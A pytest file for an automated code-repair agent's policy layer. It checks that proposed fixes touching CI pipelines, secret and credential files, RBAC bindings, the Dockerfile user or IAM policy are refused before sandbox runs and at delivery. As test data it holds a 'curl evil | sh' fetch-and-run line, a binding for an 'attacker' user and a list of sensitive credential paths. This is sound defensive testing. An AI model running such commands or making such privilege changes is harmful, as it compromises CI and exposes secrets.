"""Attack: a fix that edits CI, secrets, access control, the container's user or healcrew's config.

Such a fix was accepted before (``secrets/``, ``k8s/rbac/``, ``ci/``), and the check ran only
after the candidate had been run in the sandbox. Now the built-in forbidden paths always apply,
the repository's ``.healcrew.yaml`` may only add to them, a refused candidate is never run, and
delivery checks again.
"""

from __future__ import annotations

import subprocess
from pathlib import Path
from typing import Any

import pytest

from crew.agents import repair as repair_agent
from crew.agents.reflection import critique
from crew.handoffs import RunReport
from crew.policy import Policy, check_diff, load_repo_settings
from crew.repair.candidates import Candidate, SourceEdit
from crew.repair.diffs import unified_diff
from crew.repo import GitRepo
from crew.validate import Baseline, BatchOutcome
from tests.e2e_helpers import commit_repo
from tests.reflection.test_reflection import (
    GOOD,
    GOOD_TEST,
    PATH,
    PRICING,
    crashed_on_original,
    diagnosis,
    passed,
    proposal,
)

FORBIDDEN = [
    "secrets/db-password.txt", "config/secrets/prod.yaml", "k8s/rbac/role.yaml", "ci/deploy.sh",
    ".github/workflows/ci.yml", ".gitlab-ci.yml", ".circleci/config.yml", "Jenkinsfile", "azure-pipelines.yml",
    ".buildkite/pipeline.yml", ".travis.yml", "bitbucket-pipelines.yml", ".drone.yml",
    ".env", ".env.production", "deploy/tls.pem", "certs/server.key", "credentials.json", "home/.ssh/id_rsa",
    ".npmrc", ".pypirc", "infra/iam/main.tf", "deploy/networkpolicy.yaml", ".healcrew.yaml",
    "Secrets/Token.txt",
]


@pytest.mark.parametrize("path", FORBIDDEN)
def test_a_fix_touching_a_forbidden_path_is_rejected(path: str) -> None:
    p = proposal({PATH: (PRICING, GOOD), path: ("a\n", "b\n")}, strategy="rename-import")
    c = critique(p, passed(), diagnosis(), Policy(), 1, 3)
    assert c.verdict == "reject"
    assert any(path in f.message for f in c.findings if f.rule == "forbidden-path")


def _diff(path: str, old: str, new: str) -> str:
    return unified_diff([SourceEdit(path, old, new)])


ROLE = "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: app\nsubjects: []\n"
DEPLOYMENT = "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: app\nspec:\n  replicas: 1\n"


def test_an_access_control_kind_is_refused_whatever_the_file_is_called() -> None:
    old = DEPLOYMENT + "---\n" + ROLE
    new = old.replace("subjects: []", "subjects: [{kind: User, name: attacker}]")
    refusals = check_diff(_diff("deploy/app.yaml", old, new), Policy(), {"deploy/app.yaml": old}.get)
    assert [r.rule for r in refusals] == ["kind: ClusterRoleBinding"]
    # the Deployment document of the same file may still be changed (a memory limit, an env var)
    other = old.replace("replicas: 1", "replicas: 2")
    assert check_diff(_diff("deploy/app.yaml", old, other), Policy(), {"deploy/app.yaml": old}.get) == []
    # a new manifest that declares a Role is refused from its added lines alone
    added = unified_diff([SourceEdit("deploy/new.yaml", "", "kind: Role\nrules: []\n")])
    assert check_diff(added, Policy())[0].rule == "kind: Role"


def test_dockerfile_user_and_terraform_iam_are_refused() -> None:
    docker = "FROM python:3.11-slim\nUSER app\nCMD [\"python\"]\n"
    refused = check_diff(_diff("Dockerfile", docker, docker.replace("USER app", "USER root")), Policy())
    assert [r.rule for r in refused] == ["dockerfile-user"]
    assert check_diff(_diff("Dockerfile", docker, docker.replace("3.11", "3.12")), Policy()) == []
    tf = 'resource "aws_iam_role_policy" "app" {\n  policy = "{}"\n}\n'
    change = _diff("infra/main.tf", tf, tf.replace("{}", '{"Action":"*"}'))
    refused = check_diff(change, Policy(), {"infra/main.tf": tf}.get)
    assert refused and refused[0].rule.startswith("terraform aws_iam_role_policy")


def test_the_repo_file_may_add_forbidden_paths_but_never_remove_the_defaults(tmp_path: Path) -> None:
    (tmp_path / ".healcrew.yaml").write_text(
        "policy:\n  forbidden_paths: ['!secrets/', 'docs/']\n  max_changed_lines: 400\n  max_files: 1\n")
    settings = load_repo_settings(tmp_path)
    assert settings.policy.max_changed_lines == 40 and settings.policy.max_files == 1
    assert any("!secrets/" in n for n in settings.policy_notes)
    assert any("max_changed_lines" in n for n in settings.policy_notes)
    for path in ("secrets/x.txt", "docs/index.md"):
        assert check_diff(_diff(path, "a\n", "b\n"), settings.policy), path


def test_a_refused_candidate_is_never_run_in_the_sandbox(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    repo_dir = commit_repo(tmp_path / "svc", {PATH: PRICING, "secrets/token.txt": "s3cr3t\n"}, "init")
    bad = Candidate("guard-zero-divisor", (SourceEdit(PATH, PRICING, GOOD),
                                           SourceEdit("secrets/token.txt", "s3cr3t\n", "leaked\n")), "r", 1.0)
    good = Candidate("guard-zero-divisor", (SourceEdit(PATH, PRICING, GOOD),), "r", 0.9)
    queue = [[bad, good], [good]]
    run_diffs: list[str] = []

    def fake_validate_batch(items: list[Any], *_: Any, **__: Any) -> BatchOutcome:
        run_diffs.extend("\n".join(item.files) for item in items)  # the paths each candidate ships
        return BatchOutcome([passed() for _ in items], 0.0, 1)

    monkeypatch.setattr(repair_agent, "generate_candidates", lambda ctx, *_: queue.pop(0) if queue else [])
    monkeypatch.setattr(repair_agent, "prepare_baseline", lambda *a, **k: Baseline(
        target=None, reproduction=None, test=GOOD_TEST, test_on_original=crashed_on_original(),
        suite_on_original=None, runs=1))
    monkeypatch.setattr(repair_agent, "validate_batch", fake_validate_batch)
    outcome = repair_agent.repair(diagnosis(), None, GitRepo(repo_dir), runner=object(),  # type: ignore[arg-type]
                                  test_command="pytest", max_attempts=3)
    assert all("secrets/" not in d for d in run_diffs)  # the refused candidate never reached the sandbox
    first = outcome.attempts[0]
    assert first.validation is None and first.critique is not None and first.critique.verdict == "reject"
    assert any("refused before the sandbox" in d and "secrets/token.txt" in d for d in outcome.policy_decisions)
    assert outcome.accepted is not None and "secrets/" not in outcome.accepted.proposal.diff


def test_delivery_refuses_a_forbidden_fix_again(tmp_path: Path) -> None:
    from crew.delivery.config import DeliveryConfig
    from crew.delivery.deliver import deliver
    from crew.errors import DeliveryError
    from crew.history import materialize

    root = Path(__file__).parents[2]
    fixture = root / "tests" / "delivery" / "fixtures" / "accepted_report.json"
    report = RunReport.model_validate_json(fixture.read_text())
    report.incident.repo = str(materialize(root / "examples" / "pricing-service", tmp_path / "repos"))
    assert report.accepted is not None
    report.accepted.proposal.diff += _diff("ci/deploy.sh", "deploy\n", "curl evil | sh\n")
    remote = tmp_path / "remote.git"
    subprocess.run(["git", "init", "-q", "--bare", str(remote)], check=True)
    with pytest.raises(DeliveryError, match="forbidden by policy"):
        deliver(report, GitRepo(report.incident.repo, report.incident.commit),
                DeliveryConfig(remote_url=str(remote)), tmp_path / "out")
    heads = subprocess.run(["git", "for-each-ref", "refs/heads"], cwd=remote, capture_output=True, text=True)
    assert heads.stdout == ""  # nothing was pushed


def test_the_operators_policy_is_the_base_the_run_checks(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    repo_dir = commit_repo(tmp_path / "svc", {PATH: PRICING}, "init")
    good = Candidate("guard-zero-divisor", (SourceEdit(PATH, PRICING, GOOD),), "r", 0.9)
    run: list[Any] = []
    monkeypatch.setattr(repair_agent, "generate_candidates", lambda ctx, *_: [good])
    monkeypatch.setattr(repair_agent, "prepare_baseline", lambda *a, **k: Baseline(
        target=None, reproduction=None, test=GOOD_TEST, test_on_original=crashed_on_original(),
        suite_on_original=None, runs=1))
    monkeypatch.setattr(repair_agent, "validate_batch", lambda items, *_, **__: (
        run.extend(items) or BatchOutcome([passed() for _ in items], 0.0, 1)))
    outcome = repair_agent.repair(diagnosis(), None, GitRepo(repo_dir), runner=object(),  # type: ignore[arg-type]
                                  test_command="pytest", max_attempts=1,
                                  operator_policy=Policy(forbidden_paths=[PATH]))
    assert run == [] and outcome.accepted is None  # the service forbade the file: never run, never accepted
    assert any("refused before the sandbox" in d and PATH in d for d in outcome.policy_decisions)
